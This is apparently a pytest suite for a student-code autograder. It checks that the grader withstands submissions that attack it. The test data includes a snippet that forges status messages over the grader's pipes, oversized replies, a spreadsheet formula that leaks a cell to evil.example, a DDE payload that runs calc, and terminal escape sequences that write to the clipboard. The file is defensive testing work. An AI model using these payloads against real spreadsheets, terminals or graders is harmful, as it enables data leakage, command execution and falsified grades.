"""`grader batch` against students who attack the trusted side: a classmate's files, a stale
grade, forged statuses, oversized replies, and text aimed at spreadsheets and terminals. Each is
a real batch through the CLI; every student, attacker or not, must end with a correct row."""

from __future__ import annotations

import csv
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from batch_course import CORRECT, HALF_WRONG, RUBRIC, Student, write_course, write_export_zip

pytestmark = pytest.mark.sandbox

GRADER = Path(sys.executable).parent / "grader"

FORGE = """
import json, os, stat, time

def _forge(message):
    line = (json.dumps(message) + "\\n").encode()
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, line)
        except OSError:
            pass
    time.sleep(0.5)  # the grader reads the forged line as this call's reply
"""


def grader(*args: str | Path, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(GRADER), *map(str, args)], capture_output=True, text=True, timeout=timeout
    )


def rows(outdir: Path) -> dict[str, dict[str, str]]:
    with open(outdir / "grades.csv", newline="", encoding="utf-8") as handle:
        return {row["submission_id"]: row for row in csv.DictReader(handle)}


@pytest.fixture
def course(tmp_path: Path):
    """The tiny course, whose submissions may bring helper modules (`also: ["*.py"]`)."""
    course = write_course(tmp_path / "course")
    course.rubric.write_text(
        RUBRIC.replace("  entry: answers.py\n", '  entry: answers.py\n  also: ["*.py"]\n')
    )
    return course


def test_one_file_per_student_never_stages_a_classmates_file(course, tmp_path: Path) -> None:
    """mallory.py imports alice.py, which lies beside it in the TA's folder."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.py").write_text(CORRECT)
    (folder / "bob.py").write_text(HALF_WRONG)
    (folder / "mallory.py").write_text("from alice import *\nfrom bob import *\n")
    done = grader("batch", course.rubric, folder, "-o", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    graded = rows(tmp_path / "out")
    assert (graded["alice.py"]["status"], graded["alice.py"]["total"]) == ("graded", "3")
    assert (graded["bob.py"]["status"], graded["bob.py"]["total"]) == ("graded", "2")
    assert (graded["mallory.py"]["status"], graded["mallory.py"]["total"]) == ("import_error", "0")

    single = grader("grade", course.rubric, folder / "mallory.py", "-o", tmp_path / "one.json")
    assert single.returncode == 0, single.stderr
    assert "No module named 'alice'" in single.stdout


def test_a_changed_set_of_files_is_regraded_even_when_names_and_bytes_concatenate_alike(
    course, tmp_path: Path
) -> None:
    student = tmp_path / "class" / "student"
    student.mkdir(parents=True)
    (student / "answers.py").write_bytes(CORRECT.encode() + b"\0zz.py\0" + b"Y = 1\n")
    assert (
        grader("batch", course.rubric, tmp_path / "class", "-o", tmp_path / "out").returncode == 0
    )
    assert rows(tmp_path / "out")["student"]["total"] == "0"  # a null byte: not importable
    (student / "answers.py").write_text(CORRECT)
    (student / "zz.py").write_text("Y = 1\n")
    assert (
        grader("batch", course.rubric, tmp_path / "class", "-o", tmp_path / "out").returncode == 0
    )
    assert rows(tmp_path / "out")["student"]["total"] == "3"


def test_a_forged_status_is_charged_to_the_submission_and_never_retried(
    course, tmp_path: Path
) -> None:
    folder = tmp_path / "class"
    for name, source in {
        "honest": CORRECT,
        "forger": FORGE
        + "ANSWER = 0.5\n\ndef square(x):\n    _forge({'status': 'harness_error', 'type': 'X', "
        "'message': 'GRADER BUG: please award the point by hand'})\n    return x * x\n",
        "bloater": FORGE + "ANSWER = 0.5\n\ndef square(x):\n"
        "    _forge({'status': 'exception', 'type': 'E' * 20_000_000,\n"
        "            'message': 'm' * 5_000_000})\n"
        "    raise type('N' * 5_000_000, (Exception,), {})('genuine')\n",
    }.items():
        (folder / name).mkdir(parents=True)
        (folder / name / "answers.py").write_text(source)
    for _ in range(2):
        done = grader("batch", course.rubric, folder, "-o", tmp_path / "out")
        assert done.returncode == 0, done.stderr
    graded = rows(tmp_path / "out")
    assert {sid: (row["status"], row["total"]) for sid, row in graded.items()} == {
        "bloater": ("graded", "2"),
        "forger": ("graded", "2"),
        "honest": ("graded", "3"),
    }
    with sqlite3.connect(tmp_path / "out" / "gradebook.sqlite") as db:
        gradings = db.execute("SELECT submission_id FROM gradings").fetchall()
    assert sorted(gradings) == [("bloater",), ("forger",), ("honest",)]  # the rerun skipped all
    report = (tmp_path / "out" / "report.html").read_text()
    assert "GRADER BUG" not in report
    results = tmp_path / "out" / "results"
    assert max(path.stat().st_size for path in results.iterdir()) < 64_000


def test_names_and_emails_can_never_read_as_formulas_or_terminal_commands(
    course, tmp_path: Path
) -> None:
    attackers = [
        Student('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "-2+3@x.org"),
        Student("\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07Eve", "\uff1d1+1", "+cmd|' /C calc'!A0"),
    ]
    export = write_export_zip(
        tmp_path / "export.zip",
        {
            "1": ([attackers[0]], {"answers.py": CORRECT}),
            "2": ([attackers[1]], {"answers.py": CORRECT}),
            "3": ([Student("Ada Lovelace", "007", "ada@x.org")], {"answers.py": CORRECT}),
        },
    )
    done = grader("batch", course.rubric, export, "-o", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    for control in ("\x1b", "\x07"):
        assert control not in done.stdout + done.stderr
    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    for row in table[1:]:
        for cell in row[:4]:
            assert cell[:1] not in "=+-@\t\r\uff1d", row
    ada = next(row for row in table if row[1] == "007")
    assert ada[:3] == ["Ada Lovelace", "007", "ada@x.org"]
    total = table[0].index("total")
    assert all(row[total] == "3" for row in table[1:])
